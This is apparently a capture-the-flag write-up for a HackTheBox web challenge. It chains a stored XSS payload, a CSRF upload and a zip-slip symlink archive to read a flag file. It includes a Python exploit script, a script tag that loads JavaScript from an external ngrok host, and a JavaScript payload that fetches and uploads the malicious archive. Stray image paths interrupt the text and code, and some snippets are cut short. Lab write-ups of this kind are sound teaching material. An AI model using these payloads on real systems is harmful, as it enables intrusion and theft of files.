# Acnologia Portal (Web)

# Introduction

This challengefeatures a client-side attack using an XSS payload which allows us as an attacker to inject JavaScript to perform a CSRF request to upload firmware in a .tar.gz archive. We can use the "zip slip" vulnerability (opens new window) (directory traversal) to write to an arbitrary location on the target to ultimately grab the flag. This challenge had a code download so that we could examine the app before even launching the local Docker container.

While this was a relatively simple challenge, debugging the XSS payload was very tricky.It's a topic I would like to spend more time on to become more efficient at creating payloads. I believe my solution was very unintended, as the flag references deserialisation. After speaking to a HackTheBox admin, he revealed that the intended path was to exploit the pickle functionality in flask-sessions.

# App Functionality

This challenge initially shows the user login register/pages we have seen on the other webchallenges. Once we had registered an account, we were presented with a simple page listing firmware and hardware versions. We can "Report a Bug" and enter an issue which is submitted to the administrator.


# Code Review


I've slightly modified the code snippets below to only include the relevant source lines. Feel free to skip this section if you are familiar with the code.

We can see that the /firmware/report route accepts a JSON submission containing module_id and issue fields. The report is added to the database before calling the visit_report() method. The database is cleared, including our user account. A better option from the author would have been to only clear the reports table, but we can quickly re-register and log in using an exploit PoC script.

@api.route('/firmware/report', methods=['POST'])
def report_issue():if not request.is_json:
        return response('Missing required parameters!'), 401

    new_report = Report(module_id=data.get('module_id', ''), issue=data.get('issue', ''), reported_by=current_user.username)


    return response('Issue reported successfully!')

The /firmware/upload accepts an uploaded file under thefile field and will extract it by calling the extract_firmware() method. The /review route displays all submitted reports for the admin to view. These routesboth use the @is_admin view decorator (opens new window).

@api.route('/firmware/upload', methods=['POST'])
def firmware_update():
    if 'file' not in request.files:
        return response('Missing required parameters!'), 401

    extraction = extract_firmware(request.files['file'])

    return response('Something went wrong, please try again!'), 403

@web.route('/review', methods=['GET'])
def review_report():
    Reports = Report.query.all()
    return render_template('review.html', reports=Reports)

Below we can see the @is_admin decorator, which restricts access to the admin account and localhost.

def is_admin(f):
    def wrap(*args, **kwargs):
        if current_user.username == current_app.config['ADMIN_USERNAME'] and request.remote_addr == '':
            return f(*args, **kwargs)
            return abort(401)

    return wrap

Finally, inside bot.py, we can see the visit_report() method called after successful report submission. This method will trigger a user-simulated bot to read the review page and presumably load our XSS payload.

def visit_report():
    chrome_options = webdriver.ChromeOptions()

    client = webdriver.Chrome(chrome_options=chrome_options)For this challenge, I will be using Python 3's http.server configured to send CORS headers (opens new window) accompanied by ngrok for remote forwarding

Let's first just quickly test that our XSS theory is correct and load an exploit.js file:


We can seethat we successfully received a hit on our web server.


To aid our XSS payload development, I created a simple exploit.py script that will register a new user account before submitting a firmware report. This was necessary because the database is flushed after each report submission.

#!/usr/bin/env python3

import requests
import random
import string

NGROK = 'https://6d246fa75767.eu.ngrok.io'
s = requests.Session()
# s.proxies = {'http': ''}

def authenticate():
    cred = ''.join(random.choice(string.ascii_uppercase) for i in range(16))
    print('Authenticating... ', end='')
    s.post(f'{TARGET}/api/register', json={'username': cred, 'password': cred})
    r = s.post(f'{TARGET}/api/login',
               json={'username': cred, 'password': cred})

def report():
    print('Sending report... ', end='')
    r = s.post(f'{TARGET}/api/firmware/report', json={
        "module_id": "123",
        "issue": f"<script src=\"{NGROK}/exploit.js\"></script>"

print(f'Targeting {TARGET}')


# Zip Slip Vulnerability

Let's now look at the extract_firmware() method called from the admin route firmware_update(). The code will first save the uploaded file to a temp directory, open the file for reading with gzip compression, and extract all files. The vulnerability here lies in the tar.extractall() method; the script allows absolute and relative file paths to be extracted onto the target filesystem and does not ensure that they are all extracted to the target temp directory.


To exploit this vulnerability, I created a function for our Python exploit that performs the following:

  1. Creates a symlinkpointing to /flag.txt
  2. Adds the flag.txt symlink to the .tar.gz archive and will use directory traversal to drop it into /app/application/static/js. I chose this directory as I knew it was accessible and I would not encounter any routing issues with the Flask framework


def create_exploit():
    filepath = './jamesoscp.tar.gz'
    if os.path.exists(filepath):

    os.symlink('/flag.txt','flag.txt')

    with tarfile.open(filepath, 'w:gz') as tf:
        tf.add('flag.txt', arcname='../../../../app/application/static/js/flag.txt')

I then updated the exploit to create the archive before authenticating to the target:


# CSRF using XSS

Anyone that has previously created an XSS payload to perform a CSRF knows how tricky it can be to debug. To solve this issue, I included several requests to my ngrok listener containing either success or error messages. You can find the full exploit.js script I used below. The payload will:

  1. Fetch the jamesoscp.tar.gz archive from my ngrok listener and use the raw data to create a File object2. Issue a POST request to /api/firmware/upload in the target's browser and upload the File data
const NGROK = 'https://6d246fa75767.eu.ngrok.io'

function getFile() {
    return new Promise((resolve, reject) => {
        fetch(`${NGROK}/jamesoscp.tar.gz`, { method: 'GET' })
            .then(response => {
                // Fetch Blob object and use that to construct a File
                // https://developer.mozilla.org/en-US/docs/Web/API/Response/blob
                // https://developer.mozilla.org/en-US/docs/Web/API/File/File
                response.blob().then(blob => {
                    const fileData = new File([blob], 'jamesoscp.tar.gz');
                }).catch(err => {}).catch(err => {

function upload(fileData) {
    // Create a FormData object that will contain our entire POST data
    // We will attach the "file" field that the backend is expecting, and use
    // the `fileData` as the value
    const formData = new FormData();
    formData.append('file', fileData);

    fetch(`/api/firmware/upload`, {
        method: 'POST',
        body: formData,
    }).then((response) => response.text().then(r => {
    })).catch((err) => {

// Grab .tar.gz archive from our machine then upload to target// The getFile() function will return a File object containing a Blob
getFile().then(fileData => {
}).catch(err => {

After executing our exploit, we can simply grab the flag using thesymlink we dropped into the js directory: